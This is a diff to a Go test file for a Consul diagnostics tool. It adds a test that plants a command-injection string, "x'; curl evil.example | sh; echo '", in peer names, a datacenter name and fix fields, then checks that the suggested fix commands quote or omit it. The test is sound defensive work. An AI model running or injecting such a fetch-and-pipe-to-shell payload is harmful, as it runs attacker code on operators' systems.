@@ -146,7 +146,7 @@ func consulFindings() []finding {
 		{"a missing rule is no missing Consul", "ConsulReachable", "dc3", pass, "error", "", func(w *world) { w.trouble("dc3", "AclRuleMissing", "no nodes") }},
 		{"a missing rule keeps the agent from all", "ACLRights", "dc3", fail, "error", "--for peering", func(w *world) { w.trouble("dc3", "AclRuleMissing", "no nodes") }},
 		{"a token that Consul does not know", "ACLRights", "dc1", fail, "error", "--for primary", func(w *world) { w.trouble("dc1", "AclTokenUnknown", "ACL not found") }},
-		{"a missing rule that is reported", "ACLRights", "dc2", fail, "error", `node_prefix "" { policy = "read" }`, func(w *world) {
+		{"a missing rule that is reported", "ACLRights", "dc2", fail, "error", "isthmus agent policy --for secondary", func(w *world) {
 			w.see("dc2", func(s *doctor.Seen) {
 				s.Rights = &isthmusv1.RightsReport{Missing: []*isthmusv1.MissingRight{{Rule: `node_prefix "" { policy = "read" }`, Message: "the catalog is empty"}}}
 			})
@@ -435,6 +435,35 @@ func secretFindings() []finding {
 			w.joinToken("dc3", -time.Minute, 1)
 		}},
 		{"a join token that nobody needs any more", "JoinTokenExpiring", "", pass, "info", "", func(w *world) { w.joinToken("dc3", -time.Minute, 0) }},
+	}
+}
+
+// What people paste is not what an agent, or a name in Consul, wants them to run.
+func TestFixesAreNoOnesScript(t *testing.T) {
+	t.Parallel()
+	const evil = "x'; curl evil.example | sh; echo '"
+	w := healthy()
+	w.see("dc2", func(s *doctor.Seen) {
+		s.Peerings = &isthmusv1.PeeringsReport{Peerings: []*isthmusv1.ObservedPeering{
+			{PeerName: evil, Origin: resource.OriginOrphan, State: "ACTIVE"}, {PeerName: evil, Origin: resource.OriginOrphan, State: "PENDING"},
+		}}
+		s.Rights = &isthmusv1.RightsReport{Missing: []*isthmusv1.MissingRight{{Rule: `acl = "write"`, Message: evil}}}
+		s.Inventory.ConsulDatacenter = evil
+		s.Federation.CertificateExpireTime = in(time.Hour)
+	})
+	w.policy(resource.PolicyFailed, &isthmusv1.PolicyConflict{Entry: "service-intentions/api", Part: "source/default/web", Fix: evil})
+	quoted := 0
+	for _, c := range w.checks() {
+		rest := strings.ReplaceAll(c.GetFix(), `'x'\''; curl evil.example | sh; echo '\'''`, "")
+		if rest != c.GetFix() {
+			quoted++
+		}
+		if strings.Contains(rest, "evil") || strings.Contains(rest, `acl = "write"`) {
+			t.Errorf("%s: %s", c.GetId(), c.GetFix())
+		}
+	}
+	if quoted != 3 {
+		t.Errorf("%d commands name it", quoted)
 	}
 }
 
